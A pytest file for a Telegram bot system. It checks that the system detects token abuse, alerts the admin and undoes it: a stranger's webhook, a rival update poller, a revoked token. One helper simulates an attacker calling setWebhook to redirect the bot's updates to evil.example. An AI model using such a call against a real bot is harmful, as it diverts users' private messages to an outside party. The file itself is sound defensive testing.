"""E3: whoever makes a bot deaf is told to the admin, shown to monitors, and undone where that is safe."""

import contextlib
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import requests

from bots.telegram.update_health import UpdateHealth
from record.settings import Settings, load_settings
from record.store import Store
from record.store.facts import Beat, alive
from record.watch.alerts import Alerts
from record.watch.health import examine
from tests.bots.test_fetcher import fetched, gives
from tests.bots.test_flood import update
from tests.harness.bot_office import BotOffice
from tests.harness.system import ADMIN, CLIENT_BOT, HANG_S, MASTER_BOT, System, wait_for

JULIA = 501


@pytest.fixture
def bots(open_system: Callable[..., System]) -> System:
    """Both bots at work, and a client who has been greeted."""
    system = open_system()
    done = system.run("worker", "init")
    assert done.returncode == 0, done.stderr
    system.person(ADMIN, "Ольга")
    system.say(MASTER_BOT, ADMIN, "/start")
    system.person(JULIA, "Юля")
    system.say(CLIENT_BOT, JULIA, "/start")
    system.start("worker", "client", "master")
    system.hears(CLIENT_BOT, JULIA, "")
    system.hears(MASTER_BOT, ADMIN, "")
    return system


def stranger(system: System, method: str, **given: object) -> requests.Response:
    """Let somebody who knows the client bot's token call a method."""
    with requests.Session() as session:
        session.trust_env = False
        return session.post(f"{system.url}/bot{CLIENT_BOT}/{method}", json=given, timeout=HANG_S)


def hooks(system: System) -> None:
    """Let the stranger have the client bot's updates posted to him."""
    wait_for(lambda: stranger(system, "setWebhook", url="https://evil.example:8443/bot").ok, "Telegram to take it")


def taken_off(system: System) -> None:
    """Wait until nothing is posted to the stranger any more."""

    def off() -> bool:
        return not stranger(system, "getWebhookInfo").json()["result"]["url"]

    wait_for(off, "the webhook to be off")


def reasons(system: System) -> list[str]:
    """Return what is wrong, as monitors and `worker status` are told."""
    store = Store(system.store_url)
    with store.reading() as tx:
        found = examine(tx, load_settings(), time.time()).reasons
    store.close()
    return [reason for reason in found if "Бот клиентов" in reason]


def test_e3_a_strangers_webhook_is_taken_off_and_told_once(bots: System) -> None:
    hooks(bots)
    bots.hears(MASTER_BOT, ADMIN, "он вёл на evil.example")
    taken_off(bots)
    bots.say(CLIENT_BOT, JULIA, "Здравствуйте")
    before = len(bots.chat(CLIENT_BOT, JULIA))
    wait_for(lambda: len(bots.chat(CLIENT_BOT, JULIA)) > before, "an answer")
    hooks(bots)
    taken_off(bots)
    assert len(bots.heard(MASTER_BOT, ADMIN, "evil.example")) == 1
    assert reasons(bots) == []
    hooks(bots)
    alarm = bots.hears(MASTER_BOT, ADMIN, "снова и снова")
    assert "/revoke" in alarm["text"]
    wait_for(lambda: reasons(bots), "a reason for monitors")
    assert "снова и снова" in bots.run("worker", "status").stdout


def test_e3_somebody_else_who_asks_for_the_updates_is_told(bots: System) -> None:
    ended = threading.Event()

    def asks() -> None:
        while not ended.is_set():
            with contextlib.suppress(requests.RequestException):
                stranger(bots, "getUpdates", timeout=2)

    asking = threading.Thread(target=asks, daemon=True)
    asking.start()
    try:
        alarm = bots.hears(MASTER_BOT, ADMIN, "забирает кто-то ещё")
        assert "вторую копию" in alarm["text"]
        assert "/revoke" in alarm["text"]
        assert [reason for reason in reasons(bots) if "забирает кто-то ещё" in reason]
    finally:
        ended.set()
        asking.join()


def test_e3_a_token_that_is_refused_is_told_and_over(bots: System) -> None:
    fault = {"api": "telegram", "path": "1001.*getUpdates", "times": 1000, "status": 401}
    bots.http.post(f"{bots.url}/sandbox/faults", json=fault).raise_for_status()
    bots.say(CLIENT_BOT, JULIA, "Здравствуйте")  # ends the request that waits
    bots.hears(MASTER_BOT, ADMIN, "больше не принимает его токен")
    assert [reason for reason in reasons(bots) if "TELEGRAM_CLIENT_BOT_TOKEN" in reason]
    bots.http.delete(f"{bots.url}/sandbox/faults")
    bots.hears(MASTER_BOT, ADMIN, "Снова в порядке")
    wait_for(lambda: reasons(bots) == [], "no reason any more")


def test_e3_updates_that_went_to_somebody_else_are_missed(room: BotOffice) -> None:
    """A stranger who asks without waiting causes no conflict, but numbers are missing."""
    fetched(room, gives(update(7, 5, "а")), gives(update(9, 5, "в")), gives(update(10, 5, "г")))
    assert standing(room) == []
    fetched(room, gives(update(11, 5, "а")), gives(update(13, 5, "в")), gives(update(17, 5, "г")))
    assert standing(room) == ["rival"]


@pytest.fixture
def room(tmp_path: Path) -> Iterator[BotOffice]:
    """A bot of this process."""
    made = BotOffice(tmp_path)
    yield made
    made.store.close()


def standing(room: BotOffice) -> list[str]:
    with room.store.reading() as tx:
        return list(Alerts(tx, room.settings, "ears.client").standing)


# The kind: what counts as deaf, by a clock of the test's own


def after(*events: tuple[float, str], now: float) -> list[str]:
    """Return which troubles stand at a moment after these events, in seconds since the start."""
    hearing = UpdateHealth("master", 0.0)
    for at, what in events:
        match what:
            case "heard":
                hearing.heard(at)
            case "hooked":
                hearing.hooked("evil.example", at)
            case "rival":
                hearing.rivalled(at)
            case "missed":
                hearing.missed(at)
            case _:
                hearing.revoked = True
    return list(hearing.troubles(now))


RIVAL = [(float(at), "rival") for at in (1, 4, 12)]
HOOKS = [(float(at), "hooked") for at in (1, 100, 1000)]


@pytest.mark.parametrize(
    ("events", "now", "stands"),
    [
        ([], 60, []),
        ([], 61, ["silent"]),
        ([(50.0, "heard")], 110, []),
        ([(50.0, "heard")], 111, ["silent"]),
        ([(1.0, "revoked")], 2, ["token"]),
        ([(1.0, "revoked"), (5.0, "heard")], 6, []),
        (RIVAL[:2], 13, []),
        ([(1.0, "rival"), (2.0, "rival"), (3.0, "rival")], 4, []),  # one process takes over from another
        (RIVAL, 13, ["rival"]),
        ([*RIVAL, (90.0, "heard")], 100, []),
        ([(1.0, "missed"), (50.0, "heard")], 60, []),
        ([(1.0, "missed"), (9.0, "missed"), (50.0, "heard")], 60, ["rival"]),
        ([*HOOKS[:2], (150.0, "heard")], 160, []),
        ([*HOOKS[:2], (150.0, "heard")], 211, ["silent"]),
        ([(5.0, "rival"), (6.0, "heard")], 4000, ["silent"]),
        ([*RIVAL, (13.0, "heard")], 4000, ["silent"]),
        (RIVAL, 60.5, ["rival"]),  # it is silent, too, but here is why
        ([*HOOKS, (1001.0, "heard")], 1002, ["webhook"]),
        ([*HOOKS, (3700.0, "heard")], 3710, []),
    ],
)
def test_e3_what_counts_as_deaf(events: list[tuple[float, str]], now: float, stands: list[str]) -> None:
    assert after(*events, now=now) == stands


@pytest.mark.parametrize(
    ("beat_s", "up_s", "expected"),
    [(None, 1e9, 0), (59, 1e9, 0), (61, 1e9, 1), (61, 5, 0), (7200, 1e9, 1)],
)
def test_e3_a_bot_that_is_down_is_a_reason(
    tmp_path: object, beat_s: float | None, up_s: float, expected: int
) -> None:
    store = Store(f"sqlite:///{tmp_path}/store.sqlite3")
    now = time.time()
    if beat_s is not None:
        with store.transaction() as tx:
            tx.facts.put(alive("bot.client"), Beat(at=now - beat_s, pid=1, name="b", heard=now))
    with store.reading() as tx:
        found = [one for one in examine(tx, settings(), now, up_s).reasons if "Бот клиентов не работает" in one]
    store.close()
    assert len(found) == expected


def settings() -> Settings:
    return load_settings()
